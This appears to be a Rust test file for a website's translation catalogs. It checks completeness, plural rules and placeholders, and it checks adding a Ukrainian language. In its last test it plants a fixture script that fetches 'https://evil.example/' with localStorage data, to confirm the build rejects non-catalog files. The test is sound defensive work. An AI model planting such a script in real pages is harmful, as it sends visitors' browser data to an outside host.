//! The catalogs' check, and a language added as one catalog and one line of
//! `site.json`.

use super::super::catalogs::{check_catalog, check_catalogs};
use crate::project::Project;
use std::path::{Path, PathBuf};
use tocsin::model::LanguageTag;

#[test]
fn the_sites_catalogs_are_complete_and_agree_with_cldr() {
    let root = Project::locate().root;
    assert_eq!(
        check_catalogs(&root.join("public/i18n")),
        Vec::<String>::new()
    );
}

#[test]
fn a_translators_slips_are_named() {
    let root = Project::locate().root;
    let ru = std::fs::read_to_string(root.join("public/i18n/ru.txt")).unwrap();
    // A key left out, a placeholder renamed, and the plural rules of English.
    let slipped = ru
        .lines()
        .filter(|line| !line.starts_with("loading =") && !line.starts_with("@plural few"))
        .map(|line| line.replace("{title}", "{titel}"))
        .collect::<Vec<_>>()
        .join("\n");
    let problems = check_catalog("ru", &slipped);
    assert!(
        problems.iter().any(|p| p == ": loading is missing"),
        "{problems:#?}"
    );
    assert!(
        problems.iter().any(|p| p.contains("\"titel\"")),
        "{problems:#?}"
    );
    assert!(
        problems
            .iter()
            .any(|p| p.contains("the language's plural rules need")),
        "{problems:#?}"
    );
    assert!(
        problems
            .iter()
            .any(|p| p.contains("put 2 in `other`, CLDR's rules for ru in `few`")),
        "{problems:#?}"
    );
    let named = check_catalog("Russian", &ru);
    assert!(named[0].contains("not a language code"), "{named:?}");
}

/// `from` copied into `to`, folders and all.
fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let path = entry.unwrap().path();
        let target = to.join(path.file_name().unwrap());
        if path.is_dir() {
            copy_dir(&path, &target);
        } else {
            std::fs::copy(&path, &target).unwrap();
        }
    }
}

/// A scratch folder named after `name`, and in it a copy of the project's
/// folder `path`, named as its last part.
fn scratch_copy(name: &str, path: &str) -> (PathBuf, PathBuf) {
    let temp = std::env::temp_dir().join(format!("tocsin-{name}-{}", std::process::id()));
    let copy = temp.join(Path::new(path).file_name().unwrap_or_default());
    copy_dir(&Project::locate().root.join(path), &copy);
    (temp, copy)
}

#[test]
fn a_language_is_one_catalog_and_one_line_of_the_site_file() {
    let (temp, public) = scratch_copy("uk", "public");
    // Ukrainian has Russian's plural categories under CLDR's own rules, so
    // the Russian texts under a Ukrainian name prove the path a translator
    // takes; what the words say is not under test.
    let ru = std::fs::read_to_string(public.join("i18n/ru.txt")).unwrap();
    let uk = ru
        .replace("@name = Русский", "@name = Українська")
        .replace("@locale = ru_RU", "@locale = uk_UA");
    std::fs::write(public.join("i18n/uk.txt"), uk).unwrap();
    let site_file = public.join("data/site.json");
    let site = std::fs::read_to_string(&site_file).unwrap();
    std::fs::write(
        &site_file,
        site.replacen("\"ar\"", "\"ar\",\n    \"uk\"", 1),
    )
    .unwrap();

    assert_eq!(check_catalogs(&public.join("i18n")), Vec::<String>::new());
    super::super::check_dir(&public.join("data")).unwrap();
    let dist = temp.join("dist");
    crate::prerender::write_test_pages(
        &public.join("data"),
        &public.join("i18n"),
        &dist,
        "https://x.example",
        &Default::default(),
    )
    .unwrap();
    let campaign =
        std::fs::read_to_string(dist.join("uk/campaigns/free-ainur-kurmanov.html")).unwrap();
    assert!(
        campaign.contains("<html lang=\"uk\""),
        "{}",
        &campaign[..200]
    );
    assert!(campaign.contains("hreflang=\"uk\""));
    let front = std::fs::read_to_string(dist.join("index.html")).unwrap();
    assert!(
        front.contains("Українська"),
        "the switcher names the new language"
    );
    std::fs::remove_dir_all(&temp).unwrap();
}

#[test]
fn a_file_in_the_catalog_folder_that_is_not_a_catalog_stops_the_build() {
    let (temp, dir) = scratch_copy("i18n", "public/i18n");
    std::fs::write(
        dir.join("x.js"),
        "fetch('https://evil.example/' + localStorage.length)",
    )
    .unwrap();
    std::fs::write(dir.join("x.html"), "<script src=x.js></script>").unwrap();
    std::fs::create_dir_all(dir.join("pages")).unwrap();

    let problems = check_catalogs(&dir);
    for name in ["x.js", "x.html", "pages"] {
        assert!(
            problems
                .iter()
                .any(|p| p.contains(name) && p.contains("cannot be published")),
            "{name}: {problems:#?}"
        );
    }
    assert_eq!(problems.len(), 3, "{problems:#?}");
    // What the build reads the catalogs with.
    let languages = [LanguageTag::parse("en").unwrap()];
    let stopped = crate::prerender::read_catalogs(&dir, &languages).unwrap_err();
    assert!(stopped.contains("x.js"), "{stopped}");
    std::fs::remove_dir_all(&temp).unwrap();
}
